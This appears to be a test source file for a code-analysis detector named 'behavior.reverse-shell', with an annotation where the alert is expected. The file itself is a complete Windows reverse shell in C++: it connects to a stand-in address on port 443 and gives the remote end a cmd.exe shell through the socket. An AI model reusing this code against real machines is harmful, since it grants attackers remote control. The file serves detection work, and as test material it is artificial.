// behavior.reverse-shell on Windows: WSASocket + WSAConnect to a literal
// address, the socket handle placed in STARTUPINFO's hStdInput/hStdOutput/
// hStdError and cmd.exe started with CreateProcessA and inherited handles -
// the Win32 form of dup2 + exec. The Winsock/Win32 declarations are written
// out (windows.h is not available here).
#include <cstring>

extern "C" {
typedef int BOOL;
typedef unsigned long DWORD;
typedef unsigned short WORD;
typedef void *HANDLE;
typedef unsigned long long SOCKET;
struct sockaddr { unsigned short sa_family; char sa_data[14]; };
struct in_addr { unsigned long s_addr; };
struct sockaddr_in { short sin_family; unsigned short sin_port; struct in_addr sin_addr; char sin_zero[8]; };
typedef struct WSAData { WORD wVersion; WORD wHighVersion; char szDescription[257]; } WSADATA;
typedef struct _STARTUPINFOA {
    DWORD cb; char *lpReserved, *lpDesktop, *lpTitle;
    DWORD dwX, dwY, dwXSize, dwYSize, dwXCountChars, dwYCountChars, dwFillAttribute, dwFlags;
    WORD wShowWindow, cbReserved2; unsigned char *lpReserved2;
    HANDLE hStdInput, hStdOutput, hStdError;
} STARTUPINFOA;
typedef struct _PROCESS_INFORMATION { HANDLE hProcess, hThread; DWORD pid, tid; } PROCESS_INFORMATION;
int WSAStartup(WORD wVersionRequested, WSADATA *lpWSAData);
SOCKET WSASocketA(int af, int type, int protocol, void *lpProtocolInfo, unsigned g, DWORD dwFlags);
int WSAConnect(SOCKET s, const struct sockaddr *name, int namelen, void *a, void *b, void *c, void *d);
unsigned long inet_addr(const char *cp);
unsigned short htons(unsigned short hostshort);
BOOL CreateProcessA(const char *lpApplicationName, char *lpCommandLine, void *lpProcessAttributes,
                    void *lpThreadAttributes, BOOL bInheritHandles, DWORD dwCreationFlags, void *lpEnvironment,
                    const char *lpCurrentDirectory, STARTUPINFOA *lpStartupInfo, PROCESS_INFORMATION *lpProcessInformation);
DWORD WaitForSingleObject(HANDLE hHandle, DWORD dwMilliseconds);
}

#define STARTF_USESTDHANDLES 0x00000100
#define INFINITE 0xFFFFFFFF

int main()
{
    WSADATA wsa;
    WSAStartup(0x0202, &wsa);
    SOCKET s = WSASocketA(2 /* AF_INET */, 1 /* SOCK_STREAM */, 6 /* IPPROTO_TCP */, nullptr, 0, 0);

    sockaddr_in sa;
    std::memset(&sa, 0, sizeof(sa));
    sa.sin_family = 2;
    sa.sin_port = htons(443);
    sa.sin_addr.s_addr = inet_addr("192.0.2.77");
    if (WSAConnect(s, reinterpret_cast<sockaddr *>(&sa), sizeof(sa), nullptr, nullptr, nullptr, nullptr) != 0)
        return 1;

    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    std::memset(&si, 0, sizeof(si));
    si.cb = sizeof(si);
    si.dwFlags = STARTF_USESTDHANDLES;
    si.hStdInput = si.hStdOutput = si.hStdError = reinterpret_cast<HANDLE>(s);
    char cmd[] = "cmd.exe";
    if (!CreateProcessA(nullptr, cmd, nullptr, nullptr, 1, 0, nullptr, nullptr, &si, &pi)) // $ MISSING: Alert[behavior.reverse-shell]
        return 1;
    WaitForSingleObject(pi.hProcess, INFINITE);
    return 0;
}
